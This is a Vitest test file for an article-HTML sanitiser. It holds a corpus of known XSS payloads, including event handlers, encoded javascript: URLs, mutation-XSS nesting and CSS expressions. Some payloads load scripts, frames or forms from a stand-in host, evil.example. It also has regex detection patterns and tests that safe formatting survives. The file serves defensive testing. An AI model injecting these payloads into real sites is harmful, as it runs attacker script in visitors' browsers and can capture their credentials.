import { describe, expect, it } from "vitest";
import { sanitizeArticleHtml } from "~/.server/articles/sanitize";

// Article HTML 'rendered as-is' (docs/requirements.md §2) with no way for stored HTML to run
// script. Each payload below is a known XSS vector; after sanitising, none may leave anything
// executable.

const xssCorpus = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/xss.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://ok.example/a.png" onload="alert(1)">`,
  `<p onclick="alert(1)">clic</p>`,
  `<body onload=alert(1)>`,
  `<a href="javascript:alert(1)">enlace</a>`,
  `<a href="JaVaScRiPt:alert(1)">enlace</a>`,
  `<a href="java&#x09;script:alert(1)">enlace</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">enlace</a>`,
  `<a href=" javascript:alert(1)">enlace</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">enlace</a>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<a href="vbscript:msgbox(1)">enlace</a>`,
  `<svg onload=alert(1)><circle r="4"/></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<p style="width: expression(alert(1))">x</p>`,
  `<style>@import 'https://evil.example/x.css'; body{background:url("javascript:alert(1)")}</style>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe src="https://evil.example/phish"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example"><input name="clave"><button>Enviar</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<img src=x onerror="alert(1)"`,
  `<p><a href="https://ok.example" onmouseover="alert(1)">unclosed <b>bold`,
  `<<img src=x onerror=alert(1)//<`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<template><script>alert(1)</script></template>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<a href="https://ok.example" target="_self" rel="opener">x</a>`,
];

function expectInert(html: string) {
  const lower = html.toLowerCase();
  expect(lower).not.toMatch(/<\s*(script|style|svg|math|object|embed|form|input|meta|base|link|template|noscript|video|source|details|body)\b/);
  expect(lower).not.toMatch(/\son[a-z]+\s*=/);
  expect(lower).not.toMatch(/javascript:|vbscript:|data:|expression\(|srcdoc/);
  expect(lower).not.toMatch(/\sstyle\s*=/);
  expect(lower).not.toMatch(/<iframe(?![^>]*src="https:\/\/(www\.youtube\.com|www\.youtube-nocookie\.com|player\.vimeo\.com)\/)/);
}

describe("sanitizeArticleHtml against an XSS corpus", () => {
  it.each(xssCorpus)("leaves nothing executable in %s", (payload) => {
    expectInert(sanitizeArticleHtml(payload));
  });

  it("stays inert when sanitised twice (on save, then on render)", () => {
    for (const payload of xssCorpus) expectInert(sanitizeArticleHtml(sanitizeArticleHtml(payload)));
  });
});

describe("sanitizeArticleHtml keeps an editor's formatting", () => {
  it("keeps headings, paragraphs, emphasis, lists, quotes and tables", () => {
    const html =
      "<h2>Título</h2><p>Texto con <strong>negrita</strong> y <em>cursiva</em>.</p><ul><li>uno</li></ul><ol><li>dos</li></ol><blockquote>cita</blockquote>" +
      '<table><thead><tr><th scope="col">Forraje</th></tr></thead><tbody><tr><td>Alfalfa</td></tr></tbody></table>';
    expect(sanitizeArticleHtml(html)).toBe(html);
  });

  it("keeps safe links and opens external ones in a new tab without window.opener", () => {
    expect(sanitizeArticleHtml('<a href="https://ambic.co.uk">AMBIC</a>')).toBe('<a href="https://ambic.co.uk" target="_blank" rel="noopener noreferrer">AMBIC</a>');
    expect(sanitizeArticleHtml('<a href="/contacto" target="_blank">contacto</a>')).toBe('<a href="/contacto">contacto</a>');
    expect(sanitizeArticleHtml('<a href="mailto:info@example.com">correo</a>')).toContain('href="mailto:info@example.com"');
  });

  it("keeps images over http(s) with their alt text, loading lazily", () => {
    expect(sanitizeArticleHtml('<img src="https://example.com/vaca.jpg" alt="Vaca en el tambo">')).toBe(
      '<img src="https://example.com/vaca.jpg" alt="Vaca en el tambo" loading="lazy" />',
    );
  });

  it("keeps YouTube and Vimeo embeds and drops other iframes", () => {
    const youtube = '<iframe src="https://www.youtube.com/embed/abc123" title="Demostración" allowfullscreen></iframe>';
    expect(sanitizeArticleHtml(youtube)).toContain('src="https://www.youtube.com/embed/abc123"');
    expect(sanitizeArticleHtml('<iframe src="https://player.vimeo.com/video/1"></iframe>')).toContain("player.vimeo.com");
    expect(sanitizeArticleHtml('<p>a</p><iframe src="https://evil.example/"></iframe>')).toBe("<p>a</p>");
  });

  it("keeps the text of tags it removes, never their script", () => {
    expect(sanitizeArticleHtml('<div class="x"><span>Hola</span></div><script>alert(1)</script>')).toBe("Hola");
  });
});
